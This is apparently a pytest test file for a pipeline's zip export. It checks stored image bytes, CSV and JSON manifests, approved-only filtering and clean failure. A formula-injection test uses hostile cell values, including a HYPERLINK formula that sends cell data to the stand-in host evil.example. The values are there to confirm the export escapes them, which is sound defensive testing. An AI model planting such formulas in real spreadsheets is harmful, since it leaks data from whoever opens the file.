"""The zip export: original bytes stored, one folder per prompt, a manifest; nothing on empty."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from pathlib import Path

import pytest
from sqlmodel import select

from pipeline.errors import InputError
from pipeline.review.ratings import rate
from pipeline.store.db import session
from pipeline.store.models import Iteration, Prompt, RunItem
from tests.conftest import SAMPLES, run_cli


@pytest.fixture
def finished_run(tmp_path: Path) -> Path:
    out = tmp_path / "out"
    assert run_cli("run", SAMPLES / "seed.json", "--output", out).code == 0
    return out


def test_export_all_images_with_manifest(tmp_path: Path, finished_run: Path, engine) -> None:
    dest = tmp_path / "exports" / "all.zip"
    result = run_cli("export", "1", "--out", dest)
    assert result.code == 0, result.err
    with session(engine) as s:
        iterations = s.exec(select(Iteration).where(Iteration.status == "ok")).all()
    with zipfile.ZipFile(dest) as zf:
        images = [i for i in zf.infolist() if not i.filename.startswith("manifest")]
        assert len(images) == len(iterations)
        assert {i.compress_type for i in images} == {zipfile.ZIP_STORED}
        for info in images:
            prompt_id, name = info.filename.split("/")
            assert zf.read(info) == (finished_run / "results" / prompt_id / name).read_bytes()
        rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
        manifest = json.loads(zf.read("manifest.json"))
    assert len(rows) == len(manifest["images"]) == len(iterations)
    first = rows[0]
    assert (first["prompt_id"], first["title"], first["mood"], first["provider"], first["decision"]) == (
        "scene_001", "Neon Alley", "melancholic", "offline", "none")
    assert first["sha256"] == hashlib.sha256((finished_run / "results" / first["file"]).read_bytes()).hexdigest()
    assert set(rows[0]) >= {"final_prompt", "iteration", "model", "seed", "judge_score", "stars", "reviewer", "note", "cost_usd"}
    assert "API" not in json.dumps(manifest) and "KEY" not in json.dumps(manifest)


def test_approved_only_exports_the_latest_approved_decisions(tmp_path: Path, finished_run: Path, engine) -> None:
    with session(engine) as s:
        its = s.exec(select(Iteration, Prompt).join(RunItem, RunItem.id == Iteration.run_item_id)
                     .join(Prompt, Prompt.id == RunItem.prompt_id).order_by(Iteration.id)).all()
        rate(s, its[0][0].id, "ana", stars=5, decision="approved", note="hero shot")
        rate(s, its[1][0].id, "ana", decision="approved")
        s.commit()
        rate(s, its[1][0].id, "ben", stars=2, decision="rejected")  # the later decision wins
        s.commit()
    dest = tmp_path / "approved.zip"
    assert run_cli("export", "1", "--out", dest, "--approved-only").code == 0
    with zipfile.ZipFile(dest) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
    assert [(r["prompt_id"], r["iteration"], r["stars"], r["reviewer"], r["note"]) for r in rows] == [
        (its[0][1].key, str(its[0][0].number), "5", "ana", "hero shot")]


def test_nothing_approved_is_a_clear_message_and_no_zip(tmp_path: Path, finished_run: Path) -> None:
    dest = tmp_path / "approved.zip"
    result = run_cli("export", "1", "--out", dest, "--approved-only")
    assert result.code == 1
    assert "run 1 has no approved images to export; nothing was written" in result.err
    assert not dest.exists() and list(tmp_path.glob(".tmp-*")) == []


def test_a_missing_image_file_stops_the_export_naming_it(tmp_path: Path, finished_run: Path) -> None:
    victim = finished_run / "results" / "scene_003" / "iteration_1.jpg"
    victim.unlink()
    result = run_cli("export", "1", "--out", tmp_path / "x.zip")
    assert result.code == 1 and str(victim) in result.err
    assert not (tmp_path / "x.zip").exists()


def test_ratings_are_validated(finished_run: Path, engine) -> None:
    with session(engine) as s:
        it = s.exec(select(Iteration)).first()
        with pytest.raises(InputError, match="not a whole number from 1 to 5"):
            rate(s, it.id, "ana", stars=6)
        with pytest.raises(InputError, match="is not one of approved, rejected, none"):
            rate(s, it.id, "ana", decision="maybe")
        with pytest.raises(InputError, match="give a name"):
            rate(s, it.id, "  ", stars=3)


def test_an_export_failing_half_way_leaves_no_zip_and_no_temporary(tmp_path: Path, finished_run: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    dest = tmp_path / "exports" / "all.zip"
    from pipeline.review import export

    real_add = export._add_stored
    written = []

    def add_then_fail(zf, source, name):  # type: ignore[no-untyped-def]
        if len(written) == 3:
            raise OSError("disk full")
        written.append(name)
        return real_add(zf, source, name)

    monkeypatch.setattr(export, "_add_stored", add_then_fail)
    result = run_cli("export", "1", "--out", dest)
    assert (result.code, result.err) == (1, "error: disk full\n") and len(written) == 3
    assert not dest.exists()
    assert list(dest.parent.iterdir()) == []


HOSTILE_PROMPTS = [
    {"id": "-p1", "title": '=HYPERLINK("http://evil.example/?x="&A1,"owl")', "scene": "+1+2", "mood": "-2+3",
     "prompt": "@SUM(A1:A9) a red fox"},
    {"id": "p2", "title": "\tTabbed title", "scene": "\rcarriage return", "mood": "calm", "prompt": "A teal lantern"},
]


def test_manifest_csv_neutralises_formula_cells_and_manifest_json_stays_exact(tmp_path: Path, engine) -> None:
    """Cells a spreadsheet would run as formulas get a leading ' in the CSV (OWASP); the JSON keeps every byte."""
    prompt_set = tmp_path / "hostile.json"
    prompt_set.write_text(json.dumps({"prompts": HOSTILE_PROMPTS}), encoding="utf-8")
    assert run_cli("run", prompt_set, "--output", tmp_path / "out", "--iterations", "1").code == 0
    with session(engine) as s:
        for it in s.exec(select(Iteration).where(Iteration.status == "ok")).all():
            rate(s, it.id, "@ana", stars=4, decision="approved", note="=1+1 -- looks fine")
        s.commit()
    dest = tmp_path / "hostile.zip"
    assert run_cli("export", "1", "--out", dest).code == 0
    with zipfile.ZipFile(dest) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("manifest.csv").decode())))
        exact = json.loads(zf.read("manifest.json"))["images"]
        names = set(zf.namelist())
    assert len(rows) == len(exact) == 2
    for row, original, spec in zip(rows, exact, HOSTILE_PROMPTS, strict=True):
        for column in ("title", "scene", "mood", "final_prompt", "reviewer", "note", "prompt_id", "file"):
            value = original[column]
            dangerous = value[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert row[column] == ("'" + value if dangerous else value), column
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), column
        assert (original["title"], original["scene"], original["mood"]) == (spec["title"], spec["scene"], spec["mood"])
        assert original["reviewer"] == "@ana" and original["note"] == "=1+1 -- looks fine"
        assert original["file"] in names  # the JSON names the zip entry exactly
    assert rows[0]["final_prompt"].startswith("'=HYPERLINK(") and rows[1]["title"] == "'\tTabbed title"
    assert rows[0]["stars"] == "4" and rows[0]["iteration"] == "1"  # numbers stay numbers
    assert rows[0]["'@ana: note"] == "'=1+1 -- looks fine"  # a column named after a reviewer is neutralised too


def test_csv_safe_leaves_numbers_and_ordinary_text_alone() -> None:
    from pipeline.review.export import csv_safe

    assert [csv_safe(v) for v in (-1.5, 3, None, "a = b", " =x", "=x", "+", "-", "@", "\t", "\r", "")] == [
        -1.5, 3, None, "a = b", " =x", "'=x", "'+", "'-", "'@", "'\t", "'\r", ""]
